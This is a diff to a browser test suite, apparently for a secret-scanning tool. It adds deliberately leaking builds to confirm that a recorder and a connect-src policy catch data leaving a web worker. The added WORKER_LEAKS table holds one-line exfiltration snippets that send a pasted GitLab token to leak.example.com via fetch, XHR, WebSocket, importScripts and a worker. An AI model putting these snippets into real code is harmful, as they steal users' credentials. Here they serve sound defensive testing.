@@ -170,7 +170,36 @@ const LEAKS = {
   "what is read aloud": ["document.querySelector('footer').setAttribute('aria-label', t)", undefined],
 };
 
+/**
+ * Ways out of the worker, which reads the texts; `t` is what it was given to read. A moment later than that: the recorder is in the worker a
+ * moment after its start.
+ */
+const WORKER_LEAKS = {
+  fetch: ["fetch('https://leak.example.com/?' + t).catch(() => {})", /^console worker (fetch|blocked by connect-src)/m],
+  XMLHttpRequest: ["{ const x = new XMLHttpRequest(); x.open('POST', 'https://leak.example.com/'); x.send(t); }", /^console worker XMLHttpRequest/m],
+  WebSocket: ["new WebSocket('wss://leak.example.com/?' + t)", /^console worker WebSocket/m],
+  importScripts: ["try { importScripts('https://leak.example.com/?' + t) } catch {}", /^console worker importScripts/m],
+  "a worker of its own": ["try { new Worker('https://leak.example.com/?' + t) } catch {}", /^console worker Worker/m],
+  BroadcastChannel: ["new BroadcastChannel('kept').postMessage(t)", /^console worker BroadcastChannel/m],
+  indexedDB: ["try { indexedDB.open(t) } catch {}", /^console worker IDBFactory/m],
+  caches: ["try { caches.open(t).catch(() => {}) } catch {}", /^console worker CacheStorage/m],
+  "a file of the browser's": ["navigator.storage?.getDirectory().catch(() => {})", /^console worker StorageManager/m],
+  console: ["console.log(t)", /^console glpat-/m],
+};
+
+const leakOfWorker = (code) => `addEventListener("message", ({ data }) => { if (data[0] === "check") void data[2].at(-1)?.text().then((text) => { const t = text.slice(text.indexOf("glpat-")); setTimeout(() => { ${code} }, 300); }); });\n`;
+
 const leak = (code) => `const Kept = globalThis.RTCPeerConnection;\naddEventListener("input", (event) => { const t = String(event.target.value ?? ""); if (t.length > 12) setTimeout(() => { ${code} }); });\n`;
+
+/** A copy of the single file whose worker leaks: the worker's text is a part of the document. */
+function leakingSingleWorker(name, code) {
+  const html = readFileSync(SINGLE, "utf8");
+  const mark = "id=&quot;worker&quot;>";
+  assert.equal(html.split(mark).length, 2);
+  const path = join(folder, `single-worker-${name.replace(/\W/g, "-")}.html`);
+  writeFileSync(path, html.replace(mark, () => mark + leakOfWorker(code).replaceAll("&", "&amp;").replaceAll('"', "&quot;")));
+  return String(pathToFileURL(path));
+}
 
 /** A copy of the single file that leaks: with the hash of its changed program, as who builds it would have it. */
 function leakingSingle(name, code) {
@@ -193,7 +222,11 @@ describe("builds that leak on purpose", () => {
   before(async () => {
     browser = await chromium(drain.flags);
     // Each leak has a folder of its own: the page's files, with a `page.js` that leaks.
-    server = await serveFolder(PAGE, (file, leaking) => (file === "page.js" ? leak(LEAKS[leaking][0]) : ""));
+    server = await serveFolder(PAGE, (file, under) => {
+      const [what, leaking] = under.split("/")[0].split(":");
+      if (file === "page.js" && what === "page") return leak(LEAKS[leaking][0]);
+      return file === "worker.js" && what === "worker" ? leakOfWorker(WORKER_LEAKS[leaking][0]) : "";
+    });
     const context = await browser.newContext({ viewport: { width: 1200, height: 900 } });
     const own = (url) => url.startsWith(server.url) || url.startsWith("file:") || url === "about:srcdoc" || url.startsWith("blob:");
     recorded = await recorder(context, own);
@@ -206,14 +239,20 @@ describe("builds that leak on purpose", () => {
 
   // The recorder is the same for both; of the single file those that its frame has an answer of its own to.
   const alone = ["fetch", "navigation", "WebRTC", "localStorage"];
-  for (const [what, names] of [["the page", Object.keys(LEAKS)], ["the single file", alone]]) {
+  const others = (...without) => Object.keys(WORKER_LEAKS).filter((name) => !without.includes(name));
+  for (const [what, leaks, names, single, address] of [
+    ["the page", LEAKS, Object.keys(LEAKS), false, (name) => `${server.url}${encodeURIComponent(`page:${name}`)}/`],
+    ["the single file", LEAKS, alone, true, (name, code) => leakingSingle(name, code)],
+    // A module has no `importScripts`; a worker without an origin has no caches and no files of the browser's.
+    ["the page's worker", WORKER_LEAKS, others("importScripts"), false, (name) => `${server.url}${encodeURIComponent(`worker:${name}`)}/`],
+    ["the single file's worker", WORKER_LEAKS, others("caches", "a file of the browser's"), true, (name, code) => leakingSingleWorker(name, code)],
+  ]) {
     for (const name of names) {
       test(`${what}, by ${name}: the recorder is red`, async () => {
-        const [code, wanted] = LEAKS[name];
-        const single = what === "the single file";
+        const [code, wanted] = leaks[name];
         // A build that navigates may still be on its way: then this comes too early.
         for (let tries = 5; !(await page.goto("about:blank").then(() => true, () => tries-- <= 0)); ) await page.waitForTimeout(200);
-        await page.goto(single ? leakingSingle(name, code) : `${server.url}${encodeURIComponent(name)}/`);
+        await page.goto(address(name, code));
         const app = single ? page.frames().at(-1) : page.mainFrame();
         await app.locator("#paste").waitFor();
         recorded.entries.length = 0;
@@ -229,6 +268,21 @@ describe("builds that leak on purpose", () => {
       });
     }
   }
+
+  test("what a worker asks for in vain does not leave the browser either", async () => {
+    // A policy that only stood in the page would leave a worker of a file of its own free.
+    for (const address of [`${server.url}${encodeURIComponent("worker:fetch")}/`, leakingSingleWorker("fetch", WORKER_LEAKS.fetch[0])]) {
+      await page.goto(address);
+      const app = address.startsWith("file:") ? page.frames().at(-1) : page.mainFrame();
+      recorded.entries.length = 0;
+      drain.hosts.length = 0;
+      await app.locator("#paste").fill(`export TOKEN=${pasted}`);
+      await app.locator(".finding").first().waitFor();
+      for (let times = 0; times < 200 && !/worker blocked by connect-src/.test(recorded.entries.join()); times++) await page.waitForTimeout(50);
+      assert.match(recorded.entries.join("\n"), /worker blocked by connect-src/);
+      assert.deepEqual(drain.hosts, []);
+    }
+  });
 });
 
 describe("the popup", () => {
